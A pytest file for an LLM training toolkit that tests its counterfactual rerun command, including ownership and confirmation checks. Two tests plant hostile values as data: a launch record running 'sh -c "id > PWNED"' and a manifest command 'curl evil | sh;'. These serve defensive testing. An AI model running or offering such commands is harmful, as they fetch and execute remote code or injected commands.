"""`ezpz-llm explain --counterfactual` end to end, on a run started by `launch`."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
from slowness import scaled

from ezpz_llm.core.base.errors import UserError
from ezpz_llm.core.rundir import RunDir
from ezpz_llm.core.rundir.records import read_record
from ezpz_llm.training.data.manifest import Manifest, Shard, Source, Split, Splits, TokenizerEntry, _repair_advice
from ezpz_llm.verify.explain.counterfactual import run_counterfactual

ENV = {**os.environ, "OMP_NUM_THREADS": "1", "OMP_WAIT_POLICY": "PASSIVE", "COLUMNS": "100"}
# Steps of about 100 ms: in shorter steps, interference from other processes dominates.
SMALL = ["--n-layer", "4", "--n-head", "2", "--n-embd", "128", "--block-size", "128", "--steps", "3", "--profile",
         "false", "--eval-tokens", "1024", "--sample-tokens", "0", "--save-every", "-1", "--ds-config", "zero1"]


def explain(*arguments: str, cwd, timeout=170):
    return subprocess.run([sys.executable, "-m", "ezpz_llm.explain", *arguments], env=ENV, cwd=cwd, timeout=timeout,
                          capture_output=True, text=True, check=False)


def launched(folder):
    command = [sys.executable, "-m", "ezpz_llm.launch", "-n", "2", "--run-dir", "run", "--", sys.executable,
               "-m", "ezpz_llm.train", *SMALL]
    process = subprocess.run(command, env=ENV, cwd=folder, capture_output=True, text=True,
                             timeout=scaled(120), check=False)
    assert process.returncode == 0, process.stdout + process.stderr
    return folder / "run"


@pytest.mark.full
def test_steps_of_a_run_are_repeated_without_collectives(tmp_path):
    run_dir = launched(tmp_path)
    process = explain("run", "--counterfactual", "--yes", "--json", cwd=tmp_path)
    assert process.returncode == 0, process.stdout + process.stderr
    times_of_ranks = json.loads(process.stdout)["counterfactual"]
    assert [times["rank"] for times in times_of_ranks] == [0, 1]
    for times in times_of_ranks:
        assert 0 < times["stubbed_s"] < times["real_s"] < 5
        assert times["removed_share"] == pytest.approx(1 - times["stubbed_s"] / times["real_s"])
        assert 0 < times["exposed_share"] < 1
    again = next(run_dir.glob("counterfactual-*"))
    # The original run is unchanged, and the new one has the same model.
    assert len(list(RunDir(run_dir).profile.glob("trace-rank*"))) == 0
    assert read_record(RunDir(again)).model == read_record(RunDir(run_dir)).model
    assert len(list(RunDir(again).profile.glob("trace-rank*.json.gz"))) == 2
    assert not list((again / "checkpoints").glob("step*"))
    text = explain(str(again), cwd=tmp_path).stdout
    for phrase in ("measured by removing collectives", "exposed share in traces", "Cross-checks with other tools",
                   "times ezpz_llm's estimate"):
        assert phrase in text


@pytest.mark.parametrize(("record", "message"), [
    ({"launch": {"typed": ["launch", "a"]}, "environment": {"world_size": 1}}, "has a single rank"),
    ({"launch": {"typed": ["launch", "a"]}, "environment": {"world_size": 2}, "precision": "fp16_autocast"},
     "loss scales of ranks would diverge"),
    ({"environment": {"world_size": 2}}, "no record of how it was launched"),
])
def test_runs_that_do_not_support_a_counterfactual_are_rejected(tmp_path, record, message):
    (tmp_path / "run.json").write_text(json.dumps(record))
    with pytest.raises(UserError, match=message):
        run_counterfactual(tmp_path, yes=True)
    assert len(list(tmp_path.iterdir())) == 1


RECORD = {"launch": {"typed": ["launch", "sh", "-c", "id > PWNED"]}, "environment": {"world_size": 2},
          "config": {"ds_config": "zero1"}, "sources": {"ds_config": {"origin": "command_line"}}}


def test_nothing_starts_without_confirmation_or_from_the_run_of_another_user(tmp_path, monkeypatch, capsys):
    def run(*arguments, **_):
        raise AssertionError(arguments)

    monkeypatch.setattr(subprocess, "run", run)
    path = tmp_path / "run.json"
    path.write_text(json.dumps(RECORD))
    with pytest.raises(UserError, match="nothing was started") as error:
        run_counterfactual(tmp_path, yes=False)
    assert "--yes" in error.value.instead
    shown = capsys.readouterr().err
    assert "-m ezpz_llm.launch -n 2" in shown
    assert "PWNED" not in shown
    path.chmod(0o666)
    with pytest.raises(UserError, match="only reruns your own runs"):
        run_counterfactual(tmp_path, yes=True)
    path.chmod(0o600)
    # Links are resolved first, so that a link cannot be swapped after the owner of its target was checked.
    (tmp_path / "theirs").symlink_to(tmp_path)
    with pytest.raises(UserError, match="nothing was started") as error:
        run_counterfactual(tmp_path / "theirs", yes=False)
    assert f"--run-dir {tmp_path}/counterfactual" in capsys.readouterr().err
    monkeypatch.setattr(os, "geteuid", lambda: 12345)
    with pytest.raises(UserError, match="only reruns your own runs"):
        run_counterfactual(tmp_path, yes=True)


def test_advice_does_not_quote_commands_from_the_manifest_of_another_user(tmp_path, monkeypatch):
    split = Split(1, [Shard("a.bin", 1, "")])
    manifest = Manifest(request="", command="curl evil | sh;", source=Source("a", 1, 1),
                        tokenizer=TokenizerEntry("bytes", ""), vocab_size=257, end_of_text=256, dtype="uint16",
                        documents=1, tokens=2, unigram_entropy=1.0, splits=Splits(split, split))
    path = tmp_path / "manifest.json"
    manifest.write(tmp_path)
    assert "evil" in _repair_advice(tmp_path, manifest), "the user's own manifest is trusted"
    path.chmod(0o666)
    assert "evil" not in _repair_advice(tmp_path, manifest)
    path.chmod(0o600)
    monkeypatch.setattr(os, "geteuid", lambda: 12345)
    assert "evil" not in _repair_advice(tmp_path, manifest)
